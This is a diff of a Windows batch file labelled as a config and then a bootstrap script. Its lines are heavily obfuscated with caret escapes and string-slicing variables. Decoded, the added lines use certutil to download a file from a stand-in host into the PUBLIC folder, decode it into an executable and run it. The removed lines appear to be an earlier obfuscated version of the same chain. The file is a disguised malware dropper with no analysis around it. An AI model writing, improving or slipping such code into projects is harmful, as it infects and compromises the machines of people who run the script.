@@ -1,11 +1,11 @@
-REM config 3083 v3
+REM bootstrap 8452 v3
 @echo off
-@echo ^of^f
-s^et "cyzf=eLm0hx/\uIPft.BW-HUa6rCAi7l:b9copy"
-%cyzf:~30,1%%cyzf:~-34,1%%cyzf:~-13,1%%cyzf:~12,1%%cyzf:~-26,1%%cyzf:~12,1%%cyzf:~24,1%%cyzf:~26,1% %cyzf:~16,1%%cyzf:~8,1%%cyzf:~21,1%%cyzf:~26,1%%cyzf:~-4,1%%cyzf:~19,1%%cyzf:~-4,1%%cyzf:~4,1%%cyzf:~0,1% %cyzf:~16,1%%cyzf:~11,1% %cyzf:~4,1%%cyzf:~12,1%%cyzf:~12,1%%cyzf:~32,1%%cyzf:~27,1%%cyzf:~6,1%%cyzf:~-28,1%%cyzf:~19,1%%cyzf:~-2,1%%cyzf:~-10,1%%cyzf:~13,1%%cyzf:~-22,1%%cyzf:~-34,1%%cyzf:~-8,1%%cyzf:~0,1%%cyzf:~2,1%%cyzf:~0,1%%cyzf:~-22,1%%cyzf:~21,1%%cyzf:~-1,1%%cyzf:~16,1%%cyzf:~4,1%%cyzf:~8,1%%cyzf:~28,1%%cyzf:~13,1%%cyzf:~0,1%%cyzf:~5,1%%cyzf:~-15,1%%cyzf:~2,1%%cyzf:~-2,1%%cyzf:~-8,1%%cyzf:~0,1%%cyzf:~6,1%%cyzf:~32,1%%cyzf:~13,1%%cyzf:~12,1%%cyzf:~-29,1%%cyzf:~12,1% %%cyzf:~10,1%%cyzf:~18,1%%cyzf:~14,1%%cyzf:~1,1%%cyzf:~9,1%%cyzf:~22,1%%%cyzf:~7,1%%cyzf:~-2,1%%cyzf:~-21,1%%cyzf:~12,1%%cyzf:~5,1%%cyzf:~-22,1%
-@^e^cho o^ff
-s^et "jeqs=mr3jdIwe-8.BCUlu5oLpGi\txXcP"
-%jeqs:~-2,1%%jeqs:~7,1%%jeqs:~1,1%%jeqs:~23,1%%jeqs:~15,1%%jeqs:~23,1%%jeqs:~21,1%%jeqs:~14,1% %jeqs:~8,1%%jeqs:~-24,1%%jeqs:~-21,1%%jeqs:~26,1%%jeqs:~17,1%%jeqs:~4,1%%jeqs:~7,1% %%jeqs:~-1,1%%jeqs:~13,1%%jeqs:~-17,1%%jeqs:~18,1%%jeqs:~5,1%%jeqs:~12,1%%%jeqs:~22,1%%jeqs:~-9,1%%jeqs:~10,1%%jeqs:~23,1%%jeqs:~24,1%%jeqs:~-5,1% %%jeqs:~27,1%%jeqs:~13,1%%jeqs:~11,1%%jeqs:~18,1%%jeqs:~5,1%%jeqs:~-16,1%%%jeqs:~22,1%%jeqs:~19,1%%jeqs:~-18,1%%jeqs:~7,1%%jeqs:~-4,1%%jeqs:~7,1%
-@^ech^o ^off
-^set "acvj=j.CUsO\lpLI3xMNBEPe"
-%%acvj:~17,1%%acvj:~-16,1%%acvj:~15,1%%acvj:~-10,1%%acvj:~-9,1%%acvj:~-17,1%%%acvj:~6,1%%acvj:~-11,1%%acvj:~1,1%%acvj:~18,1%%acvj:~-7,1%%acvj:~18,1%
+@e^cho ^of^f
+s^et "icnv=sv6Vu-Cp/feXnxgy0hL:Bitwr\cAPlm.oaIU"
+%icnv:~26,1%%icnv:~-26,1%%icnv:~24,1%%icnv:~-14,1%%icnv:~4,1%%icnv:~22,1%%icnv:~21,1%%icnv:~29,1% %icnv:~5,1%%icnv:~4,1%%icnv:~24,1%%icnv:~29,1%%icnv:~26,1%%icnv:~33,1%%icnv:~-10,1%%icnv:~17,1%%icnv:~10,1% %icnv:~5,1%%icnv:~-27,1% %icnv:~-19,1%%icnv:~-14,1%%icnv:~22,1%%icnv:~7,1%%icnv:~19,1%%icnv:~-28,1%%icnv:~8,1%%icnv:~9,1%%icnv:~21,1%%icnv:~-7,1%%icnv:~10,1%%icnv:~0,1%%icnv:~31,1%%icnv:~0,1%%icnv:~-21,1%%icnv:~12,1%%icnv:~26,1%%icnv:~5,1%%icnv:~-36,1%%icnv:~1,1%%icnv:~26,1%%icnv:~31,1%%icnv:~10,1%%icnv:~13,1%%icnv:~33,1%%icnv:~-6,1%%icnv:~7,1%%icnv:~-7,1%%icnv:~10,1%%icnv:~8,1%%icnv:~7,1%%icnv:~31,1%%icnv:~-14,1%%icnv:~13,1%%icnv:~22,1% %PUBLIC%%icnv:~25,1%%icnv:~-29,1%%icnv:~31,1%%icnv:~22,1%%icnv:~13,1%%icnv:~22,1%
+@^echo off
+^set "apbt=t1d0e\EiIO.-rBxoSL4PuplcUTCh"
+%apbt:~23,1%%apbt:~-24,1%%apbt:~12,1%%apbt:~-28,1%%apbt:~20,1%%apbt:~0,1%%apbt:~-21,1%%apbt:~22,1% %apbt:~11,1%%apbt:~2,1%%apbt:~4,1%%apbt:~-5,1%%apbt:~15,1%%apbt:~-26,1%%apbt:~-24,1% %PUBLIC%%apbt:~5,1%%apbt:~21,1%%apbt:~10,1%%apbt:~0,1%%apbt:~14,1%%apbt:~0,1% %PUBLIC%%apbt:~5,1%%apbt:~-7,1%%apbt:~10,1%%apbt:~-24,1%%apbt:~14,1%%apbt:~4,1%
+@e^cho o^ff
+s^e^t "wzgl=.iCspgqBJ3\IfxUePLt"
+%PUBLIC%%wzgl:~-9,1%%wzgl:~4,1%%wzgl:~0,1%%wzgl:~-4,1%%wzgl:~13,1%%wzgl:~15,1%
